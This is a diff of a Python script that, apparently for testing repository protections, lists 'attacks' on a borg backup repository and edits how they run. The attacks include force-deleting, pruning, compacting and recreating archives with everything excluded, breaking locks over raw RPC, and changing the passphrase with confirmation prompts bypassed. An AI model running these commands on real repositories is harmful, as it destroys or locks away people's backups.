@@ -17,12 +17,12 @@ url, name = place.rsplit("::", 1)
 sources = arguments[arguments.index("--") + 2:]
 
 
-def borg(*words, check=True):
-    passphrase = sys.stdin.buffer.read() if not hasattr(borg, "passphrase") else borg.passphrase
-    borg.passphrase = passphrase
-    done = subprocess.run(["borg", *words], input=passphrase, check=False, env={**os.environ, "BORG_CHECK_I_KNOW_WHAT_I_AM_DOING": "YES",
-                          "BORG_DELETE_I_KNOW_WHAT_I_AM_DOING": "YES"})
-    sys.exit(done.returncode) if check and done.returncode else None
+def borg(*words):
+    """Another command of stock borg, which reads the passphrase as create would have."""
+    done = subprocess.run(["borg", *words], check=False, env={**os.environ, "BORG_CHECK_I_KNOW_WHAT_I_AM_DOING": "YES",
+                          "BORG_DELETE_I_KNOW_WHAT_I_AM_DOING": "YES", "BORG_NEW_PASSPHRASE": "mine now"})
+    if done.returncode:
+        raise RuntimeError(f"borg {words[0]} ended with {done.returncode}")
 
 
 def connect():
@@ -39,8 +39,7 @@ class Raw:
         self.unpacker = msgpack.Unpacker(raw=True, max_buffer_size=1 << 27)
         self.process = connect()
         self.number = 1
-        self.say(self.pack((1, 1, "negotiate", ({"client_data": {"client_version": (1, 2, 4, -1)}},))) if False else
-                 self.pack([1, 1, "negotiate", [{b"client_version": (1, 2, 4, -1)}]]))
+        self.say(self.pack([1, 1, "negotiate", [{"client_version": (1, 2, 4, -1)}]]))
         self.answer()
 
     def say(self, data):
@@ -198,11 +197,11 @@ def fill():
 
 
 ATTACKS = {
-    "delete": lambda: borg("delete", "--force", url, *[]),
+    "delete": lambda: borg("delete", "--force", url),
     "delete-newest": lambda: borg("delete", "--last", "1", url),
     "prune": lambda: borg("prune", "--keep-last", "1", url),
     "compact": lambda: borg("compact", "--cleanup-commits", url),
-    "break-lock": lambda: (borg("break-lock", url), raw("break_lock")),
+    "break-lock": lambda: raw("break_lock"),
     "check-repair": lambda: borg("check", "--repair", url),
     "change-passphrase": lambda: borg("key", "change-passphrase", url),
     "recreate": lambda: borg("recreate", "--exclude", "*", url),
